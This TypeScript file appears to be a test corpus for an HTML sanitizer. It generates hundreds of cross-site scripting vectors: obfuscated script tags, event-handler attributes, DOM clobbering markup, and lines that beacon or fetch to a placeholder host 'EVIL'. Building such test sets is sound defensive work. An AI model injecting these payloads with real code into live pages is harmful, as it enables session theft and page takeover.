/** Code in elements and in handlers, and names that stand in the way of code. */

const openers = [
  '<script>', '<SCRIPT>', '<sCrIpT >', '<script\t>', '<script\n\r>', '<script\f>', '<script/>', '<script/x>', '<script x="">', '<script x=">">',
    '<script type=module>', '<script type="text/javascript">', '<script type="application/ecmascript">',
  '<script language=javascript>', '<script async>', '<script defer>', '<script nomodule>', '<script type="">', '<script charset=utf-8>',
    '<script for=window event=onload>', '<<script>', '<p><script>', '</p><script>', '<b>x</b><script>',
  '<table><script>', '<table><tr><script>', '<ul><li><script>', '<select><script>', '<select><option><script>', '<template><script>', '<title></title><script>',
    '<!--><script>', '<!---><script>', '<!--!><script>', '<!-- --!><script>', '<!-- -- ><script>',
  '<![CDATA[><script>', '<![CDATA[]]><script>', '<?x><script>', '<!x><script>', '</ x><script>', '<plaintext/><script>', '<head><script>', '<body><script>',
    '<html><script>', '<frameset><script>', '<xss><script>', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">',
]

export const scripts: string[] = [
  ...openers.map((opener) => `${opener}HIT</script>`),
  '<script>HIT', '<script>HIT//', '<script><!--\nHIT\n--></script>', '<script><!--<script>HIT</script>-->HIT</script>', '<scr<script>ipt>HIT</scr</script>ipt>',
    '<script\0>HIT</script>', '<scr\0ipt>HIT</scr\0ipt>', '<\0script>HIT</script>',
  '<script>HIT</script\n>', '<script>HIT</script x>', '<script>HIT</script/x>', '<script>alert(1);HIT</script>', '<script>confirm(1)</script>',
    '<script>prompt(1)</script>', '<script>location="EVIL"</script>', '<script>window.open("EVIL")</script>',
  '<script>document.body.innerHTML="";HIT</script>', '<script>import("EVIL")</script>', '<script>fetch("EVIL")</script>',
    '<script>new Image().src="EVIL"</script>', '<script>navigator.sendBeacon("EVIL")</script>', '<script>eval("HIT")</script>',
  ...['src=EVIL', 'src="EVIL"', 'src=//evil.test/x', 'src=\\\\evil.test\\x', 'src=PATH', '/src=EVIL', 'type=module src=EVIL', 'async src=EVIL',
    'src=data:text/javascript,HIT', 'src="data:;base64,dG9wLmhpdCgwKQ=="', 'href=EVIL', 'xlink:href=EVIL', 'src="https:evil.test"',
    'src="ftp://evil.test/x"'].map((attributes) => `<script ${attributes}></script>`),
  '<script type=importmap>{"imports":{"x":"EVIL"}}</script>',
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["EVIL"]}],"prerender":[{"source":"list","urls":["PATH"]}]}</script>',
]

const events = [
  'abort', 'activate', 'afterprint', 'animationcancel', 'animationend', 'animationiteration', 'animationstart', 'auxclick', 'beforecopy', 'beforecut',
    'beforeinput', 'beforematch', 'beforepaste', 'beforeprint', 'beforetoggle', 'beforeunload', 'begin', 'blur', 'bounce', 'cancel',
  'canplay', 'canplaythrough', 'change', 'click', 'close', 'contextmenu', 'contentvisibilityautostatechange', 'copy', 'cuechange', 'cut', 'dblclick', 'drag',
    'dragend', 'dragenter', 'dragleave', 'dragover', 'dragstart', 'drop', 'durationchange', 'end', 'ended', 'error',
  'finish', 'focus', 'focusin', 'focusout', 'formdata', 'fullscreenchange', 'gotpointercapture', 'hashchange', 'input', 'invalid', 'keydown', 'keypress',
    'keyup', 'load', 'loadeddata', 'loadedmetadata', 'loadstart', 'lostpointercapture', 'message', 'mousedown',
  'mouseenter', 'mouseleave', 'mousemove', 'mouseout', 'mouseover', 'mouseup', 'mousewheel', 'pagehide', 'pageshow', 'paste', 'pause', 'play', 'playing',
    'pointercancel', 'pointerdown', 'pointerenter', 'pointermove', 'pointerover', 'pointerrawupdate', 'pointerup',
  'popstate', 'progress', 'ratechange', 'readystatechange', 'repeat', 'reset', 'resize', 'scroll', 'scrollend', 'scrollsnapchange', 'search', 'seeked',
    'seeking', 'securitypolicyviolation', 'select', 'selectionchange', 'selectstart', 'show', 'slotchange', 'stalled', 'start',
  'storage', 'submit', 'suspend', 'timeupdate', 'toggle', 'touchcancel', 'touchend', 'touchmove', 'touchstart', 'transitioncancel', 'transitionend',
    'transitionrun', 'transitionstart', 'unhandledrejection', 'unload', 'volumechange', 'waiting', 'webkitanimationend', 'wheel',
]
const carriers = [
  'p', 'b', 'a', 'div', 'span', 'td', 'li', 'h2', 'body', 'svg', 'math', 'img', 'input', 'button', 'details', 'video', 'audio', 'iframe', 'object', 'embed',
    'marquee', 'select', 'textarea', 'form', 'style', 'link', 'meta', 'frameset', 'dialog', 'canvas', 'label', 'source', 'track', 'x-own', 'xss', 'slot',
    'template', 'menu', 'bgsound', 'isindex', 'keygen', 'portal', 'fencedframe', 'image', 'noembed', 'search', 'selectedcontent', 'font', 'center', 'blink',
    'table', 'caption', 'fieldset', 'legend', 'summary', 'progress', 'meter', 'output', 'map', 'area',
]
const gaps = [' ', '/', '\t', '\n', '\f', '\r', ' / ', ' x=y ', ' "x" ', ' = ']
const quotings: ((code: string) => string)[] = [(code) => code, (code) => `"${code}"`, (code) => `'${code}'`, (code) => ` "${code}"`, (code) => `"\n${code}"`,
  (code) => `"javascript:${code}"`, (code) => `"&#32;${code}"`, (code) => `\`${code}\``]
const pick = <T>(list: readonly T[], index: number): T => list[index % list.length]!
const withHandler = (element: string, event: string, index: number) => `<${element}${pick(gaps, index)}on${index % 3 === 0 ? event.toUpperCase() : event}${index % 5 === 0 ? ' ' : ''}=${pick(quotings, index)('HIT')}>words</${element}>`

export const handlers: string[] = [
  ...events.flatMap((event, index) => [withHandler(pick(carriers, index), event, index), withHandler(pick(carriers, index * 7 + 3), event, index + 1)]),
  ...carriers.flatMap((element, index) => ['load', 'click', 'focus'].map((event, step) => withHandler(element, event, index + step))),
  ...['img src=x onerror=HIT', 'img src=PATH onerror=HIT', 'img src onerror=HIT', 'image src=x onerror=HIT', 'IMG SRC=x OnErRoR=HIT', 'img/src=x/onerror=HIT',
    'img src="x" alt="" onerror="HIT"', 'img src=x srcset=x onerror=HIT', 'input autofocus onfocus=HIT', 'input type=image src=x onerror=HIT',
    'select autofocus onfocus=HIT', 'textarea autofocus onfocus=HIT',
    'button popovertarget=x onclick=HIT', 'details open ontoggle=HIT', 'body onload=HIT', 'body onpageshow=HIT', 'video src=x onerror=HIT',
      'audio src=x onerror=HIT', 'video><source onerror=HIT', 'video poster=x onloadstart=HIT src=x', 'object data=x onerror=HIT', 'embed src=PATH onload=HIT',
      'iframe onload=HIT', 'style onload=HIT', 'style onerror=HIT', 'link rel=stylesheet href=PATH onerror=HIT',
      'link rel=preload as=script href=PATH onload=HIT',
    'marquee onstart=HIT', 'p tabindex=1 autofocus onfocus=HIT', 'a href=# autofocus onfocus=HIT', 'div contenteditable autofocus onfocus=HIT',
      'div style="animation:x 1s" onanimationstart=HIT', 'p style="transition:all 1s" ontransitionrun=HIT', 'div popover onbeforetoggle=HIT',
      'track src=x onerror=HIT', 'img src=data:, onerror=HIT', 'img onload=HIT src=data:image/gif;base64,R0lGODlhAQABAAAAACw=',
      'b onclick=HIT style="position:fixed;inset:0"', 'a onclick=HIT href="https://a.test"', 'a onmouseover="HIT" title=x', "a title='\"onclick=HIT'",
      'a title="x"onclick="HIT"', 'p title=`"`onclick=HIT', 'p ====onclick=HIT', 'p <onclick=HIT', 'p "onclick=HIT',
      "p 'onclick=HIT"].map((inner) => `<${inner}>`),
]

const globals = ['root', 'foyer-release', 'foyer-early', 'hit', 'top', 'location', 'document', 'body', 'head', 'cookie', 'forms', 'getElementById',
  'querySelector', 'createElement', 'trustedTypes', 'attributes', 'innerHTML', 'childNodes', 'parentNode', 'nodeName', 'removeChild', 'constructor',
  '__proto__', 'toString', 'evil_name', 'defaultView', 'currentScript', 'implementation', 'sessionStorage', 'fetch']

export const clobbering: string[] = [
  ...globals.map((name, index) => pick([`<a id="${name}" href="EVIL">x</a>`, `<form id=${name}><input name=${name}></form>`, `<img name=${name} src=PATH>`, `<iframe name=${name} src=PATH></iframe>`, `<object id=${name} data=PATH></object>`, `<p id=${name} class=${name} name=${name}>x</p>`], index)),
  ...globals.map((name, index) => pick([`<p id=${name}>x</p>`, `<a id=${name} name=${name}>x</a>`, `<span name="${name}">x</span>`, `<a id=${name}></a><a id=${name} name=x href="EVIL">x</a>`], index)),
  ...['attributes', 'childNodes', 'firstChild', 'parentNode', 'nodeName', 'nodeType', 'removeChild', 'setAttribute', 'removeAttribute', 'innerHTML',
    'textContent', 'namespaceURI', 'insertBefore', 'hasChildNodes', 'ownerDocument', 'cloneNode',
    'getRootNode'].map((name) => `<form onclick=HIT><input name=${name}><img src=x onerror=HIT></form>`),
  '<form id=x></form><button form=x formaction=javascript:HIT>x</button>', '<form><form id=y><input name=parentNode>',
    '<p data-node="home" data-page="home" data-key="x" data-scroll>x</p>', '<p role=dialog aria-modal=true aria-label="Log in">x</p>',
    '<p slot=x part=y is=x-own nonce=z itemprop=a>x</p>', '<p tabindex=1 accesskey=a contenteditable draggable=true hidden inert>x</p>',
]
